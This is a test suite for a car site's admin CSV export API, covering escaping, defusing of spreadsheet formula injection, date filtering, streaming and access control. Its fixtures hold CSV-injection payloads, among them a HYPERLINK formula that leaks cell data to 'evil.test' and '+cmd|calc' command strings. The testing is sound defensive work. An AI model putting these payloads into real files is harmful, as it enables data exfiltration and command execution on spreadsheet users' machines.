/**
 * CSV exports of leads and newsletter subscribers (GET /api/admin/exports/*.csv): admins only, never cached,
 * escaped so that any spreadsheet reads each record back whole and runs no formula, streamed in batches.
 */
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../helpers.js';
import { signedIn, type TestSession } from './helpers.js';

let t: TestApp;
let admin: TestSession;
beforeAll(async () => {
  t = await buildTestApp();
  admin = await signedIn(t.app, 'admin');
});
afterAll(() => t.close());

const LEADS_HEADER = 'id,created_at,name,phone,email,city,intent,model,variant,message,status';
const NEWSLETTER_HEADER = 'id,email,status,source,created_at,confirmed_at';

const exportCsv = (file: 'leads.csv' | 'newsletter.csv', query = '', session: TestSession = admin, app = t.app) =>
  app.inject({ method: 'GET', url: `/api/admin/exports/${file}${query}`, headers: session.headers });

async function post(url: string, payload: object): Promise<LightMyRequestResponse> {
  const response = await t.app.inject({ method: 'POST', url, payload } satisfies InjectOptions);
  expect(response.statusCode, response.body).toBeLessThan(300);
  return response;
}

/** Parses the CSV the way a spreadsheet import would (RFC 4180), header row first. */
const records = (body: string): string[][] => parse(body, { relax_column_count: false });

/**
 * The cells a spreadsheet that ignores our quotes would see: one whose locale separates with `;` or a tab
 * opening this comma-separated file splits on those (and on commas, to be safe) and on line breaks, and
 * takes no quote for a quote. The bluntest reading there is.
 */
const quoteBlindCells = (body: string): string[] => body.split(/[,;\t\r\n]/);
const FORMULA_START = /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
/** Cells that would run as a formula in the quote-blind reading (an E.164 phone is only its own number: see csv.ts). */
const formulaCells = (body: string) => quoteBlindCells(body).filter((cell) => FORMULA_START.test(cell) && !/^"\+[1-9][0-9]{6,14}"$/.test(cell));

const byColumn = (rows: string[][]) => rows.slice(1).map((row) => Object.fromEntries(rows[0]!.map((column, i) => [column, row[i]!])));

const lead = (name: string, extra: Record<string, unknown> = {}) => ({ name, phone: '98765 43210', city: 'Pune', model: 'hyundai-creta', intent: 'test-drive', ...extra });

describe('leads export', () => {
  let ids: number[] = [];
  beforeAll(async () => {
    const created = [];
    for (const payload of [
      lead('Sharma, "Raj" Kumar', { email: 'Raj@Example.com', message: 'Call after 6, please' }),
      lead('=HYPERLINK("http://evil.test/?x="&A1,"click")', { variant: 'hyundai-creta-e', intent: 'price-quote' }),
      lead('+cmd|calc'),
      lead('@SUM(A1:A9)'),
      lead('-2+3'),
    ]) {
      created.push((await post('/api/leads', payload)).json().data.id as number);
    }
    // Visitors' text has its line breaks folded by the API; older rows and other writers may still hold them.
    const { rows } = await t.app.pg.query<{ id: number }>(
      `INSERT INTO leads (name, phone, city, intent, model_id, message)
       SELECT 'Multi Line', '+919876543211', 'Delhi', 'test-drive', id, E'first line\\nsecond, "quoted" line\\r\\n=third' FROM models WHERE slug = 'kia-seltos'
       RETURNING id`,
    );
    ids = [...created, rows[0]!.id];
  });

  it('answers admins with a CSV attachment, one record per lead, never cached', async () => {
    const response = await exportCsv('leads.csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="gadizone-leads-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.headers['x-cache']).toBeUndefined();
    expect(response.body.split('\r\n')[0]).toBe(LEADS_HEADER);

    const rows = records(response.body);
    expect(rows[0]!.join(',')).toBe(LEADS_HEADER);
    expect(rows).toHaveLength(ids.length + 1);
    const leads = byColumn(rows);
    expect(leads.map((l) => Number(l.id))).toEqual(ids);
    expect(leads[0]).toMatchObject({
      name: 'Sharma, "Raj" Kumar',
      email: 'raj@example.com',
      city: 'Pune',
      intent: 'test-drive',
      model: 'hyundai-creta',
      variant: '',
      message: 'Call after 6, please',
      status: 'new',
    });
    expect(leads[1]).toMatchObject({ intent: 'price-quote', variant: 'hyundai-creta-e' });
    expect(new Date(leads[0]!.created_at!).toISOString()).toBe(leads[0]!.created_at);

    // A second export sees a lead created since: nothing was cached.
    await post('/api/leads', lead('Late Comer'));
    const again = records((await exportCsv('leads.csv')).body);
    expect(again).toHaveLength(ids.length + 2);
    ids.push(Number(again.at(-1)![0]));
  });

  it('escapes commas, quotes and line breaks as RFC 4180 says', async () => {
    const body = (await exportCsv('leads.csv')).body;
    expect(body).toContain(',"Sharma, ""Raj"" Kumar",');
    expect(body).toContain(',"Call after 6, please",');
    // The line break could end a row for a spreadsheet that ignores the quotes: the formula after it is defused too.
    expect(body).toContain(`,"first line\nsecond, ""quoted"" line\r\n'=third",`);
    const multi = byColumn(records(body)).find((l) => l.name === 'Multi Line');
    expect(multi).toMatchObject({ model: 'kia-seltos', message: `first line\nsecond, "quoted" line\r\n'=third` });
  });

  it('prefixes cells a spreadsheet would run as a formula with an apostrophe', async () => {
    const leads = byColumn(records((await exportCsv('leads.csv')).body));
    expect(leads.map((l) => l.name)).toEqual(
      expect.arrayContaining(["'=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")", "'+cmd|calc", "'@SUM(A1:A9)", "'-2+3"]),
    );
    for (const l of leads) expect(l.name).not.toMatch(/^[=+\-@\t\r]/);
    // Phone numbers are stored as +91… (E.164): the number they spell is all they can evaluate to, so they keep no single quote.
    expect(leads[0]!.phone).toBe('+919876543210');
  });

  it('leaves no formula where a spreadsheet of any separator locale could start a cell, even one ignoring quotes', async () => {
    // Older rows and other writers may hold what the API now cleans (leading blanks, separators before formulas).
    const { rows } = await t.app.pg.query<{ id: number }>(
      `INSERT INTO leads (name, phone, city, intent, model_id, message)
       SELECT n, '+919876543299', 'Pune', 'test-drive', (SELECT id FROM models WHERE slug = 'kia-seltos'), m
         FROM (VALUES (' ;-2+3+cmd|x', 'a;=cmd|x'), ('x,@SUM(1)', E'line\\t+1'), (E'\\t=HYPERLINK("http://evil.test")', '  "=1+1"')) v(n, m)
       ORDER BY n DESC
       RETURNING id`,
    );
    const body = (await exportCsv('leads.csv')).body;
    expect(formulaCells(body)).toEqual([]);
    const exported = byColumn(records(body)).filter((l) => rows.some((r) => r.id === Number(l.id)));
    expect(exported.map((l) => [l.name, l.message]).sort()).toEqual(
      [
        [" ;'-2+3+cmd|x", "a;'=cmd|x"],
        ["x,'@SUM(1)", "line\t'+1"],
        ["'\t'=HYPERLINK(\"http://evil.test\")", "'  \"=1+1\""],
      ].sort(),
    );
    await t.app.pg.query('DELETE FROM leads WHERE id = ANY($1)', [rows.map((r) => r.id)]);
  });

  it('filters by creation day in UTC, whatever the database time zone', async () => {
    const { rows } = await t.app.pg.query<{ id: number }>(
      `INSERT INTO leads (name, phone, city, intent, model_id, created_at)
       SELECT 'Night Owl', '+919876543212', 'Goa', 'test-drive', id, '2020-01-15T23:30:00Z' FROM models WHERE slug = 'kia-seltos' RETURNING id`,
    );
    const inRange = byColumn(records((await exportCsv('leads.csv', '?from=2020-01-15&to=2020-01-15')).body));
    expect(inRange.map((l) => Number(l.id))).toEqual([rows[0]!.id]);
    expect(records((await exportCsv('leads.csv', '?from=2020-01-16&to=2020-01-16')).body)).toHaveLength(1);

    // The same query through an app whose database sessions run in India's time zone (UTC+05:30).
    await t.app.pg.query(`ALTER DATABASE ${t.database.name} SET timezone TO 'Asia/Kolkata'`);
    const india = await buildTestApp({ database: t.database });
    try {
      expect((await india.app.pg.query<{ TimeZone: string }>('SHOW timezone')).rows[0]!.TimeZone).toBe('Asia/Kolkata');
      const there = byColumn(records((await exportCsv('leads.csv', '?from=2020-01-15&to=2020-01-15', admin, india.app)).body));
      expect(there.map((l) => Number(l.id))).toEqual([rows[0]!.id]);
      expect(there[0]!.created_at).toBe('2020-01-15T23:30:00.000Z');
    } finally {
      await india.close();
      await t.app.pg.query(`ALTER DATABASE ${t.database.name} RESET timezone`);
    }
    await t.app.pg.query('DELETE FROM leads WHERE id = $1', [rows[0]!.id]);
  });

  it('refuses a malformed range with 400', async () => {
    const response = await exportCsv('leads.csv', '?from=15-01-2020');
    expect({ status: response.statusCode, code: response.json().error.code }).toEqual({ status: 400, code: 'VALIDATION_FAILED' });
  });

  it('streams a large export in full (20,000 leads, several batches)', { timeout: 60_000 }, async () => {
    await t.app.pg.query(
      `INSERT INTO leads (name, phone, city, intent, model_id, message)
       SELECT 'Bulk Lead ' || g, '+91987' || lpad(g::text, 7, '0'), 'Mumbai', 'price-quote', (SELECT id FROM models WHERE slug = 'tata-nexon'), 'note ' || g
         FROM generate_series(1, 20000) g`,
    );
    const { rows: counted } = await t.app.pg.query<{ n: number }>('SELECT count(*)::int AS n FROM leads');
    const response = await exportCsv('leads.csv');
    expect(response.statusCode).toBe(200);
    // A stream: no length known up front.
    expect(response.headers['content-length']).toBeUndefined();
    const rows = records(response.body);
    expect(rows).toHaveLength(counted[0]!.n + 1);
    const exported = rows.slice(1).map((row) => Number(row[0]));
    expect(new Set(exported).size).toBe(exported.length);
    expect(exported).toEqual([...exported].sort((a, b) => a - b));
    expect(rows.at(-1)!.slice(2, 4)).toEqual(['Bulk Lead 20000', '+919870020000']);
    expect(formulaCells(response.body)).toEqual([]);
  });
});

describe('newsletter export', () => {
  it('lists every subscriber with status and confirmation time, formulas defused', async () => {
    for (const payload of [{ email: 'Plain.Reader@Example.com', source: 'home-footer' }, { email: '=1+1@example.com' }, { email: 'news@example.com', source: '-cmd' }]) {
      await post('/api/newsletter', payload);
    }
    await t.app.outbox.drainNow();
    const token = /token=([\w-]{43})/.exec(t.mailer.sent.find((m) => m.to === 'plain.reader@example.com')!.text)![1]!;
    await post('/api/newsletter/confirm', { token });

    const response = await exportCsv('newsletter.csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="gadizone-newsletter-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.body.split('\r\n')[0]).toBe(NEWSLETTER_HEADER);
    const subscribers = byColumn(records(response.body));
    expect(subscribers).toHaveLength(3);
    expect(subscribers[0]).toMatchObject({ email: 'plain.reader@example.com', status: 'confirmed', source: 'home-footer' });
    expect(new Date(subscribers[0]!.confirmed_at!).getTime()).toBeGreaterThan(Date.now() - 60_000);
    expect(subscribers[1]).toMatchObject({ email: "'=1+1@example.com", status: 'pending', source: '', confirmed_at: '' });
    expect(subscribers[2]).toMatchObject({ email: 'news@example.com', source: "'-cmd" });
    expect(formulaCells(response.body)).toEqual([]);
    expect(response.body).not.toMatch(/confirm_token|[0-9a-f]{64}/);
  });
});

describe('permissions', () => {
  it('refuses editors and viewers (403) and anonymous callers (401)', async () => {
    const [editor, viewer] = [await signedIn(t.app, 'editor'), await signedIn(t.app, 'viewer')];
    for (const file of ['leads.csv', 'newsletter.csv'] as const) {
      for (const session of [editor, viewer]) {
        const response = await exportCsv(file, '', session);
        expect({ status: response.statusCode, code: response.json().error.code }).toEqual({ status: 403, code: 'FORBIDDEN' });
        expect(response.body).not.toContain('@');
      }
      const anonymous = await t.app.inject({ method: 'GET', url: `/api/admin/exports/${file}` });
      expect(anonymous.statusCode).toBe(401);
    }
  });
});
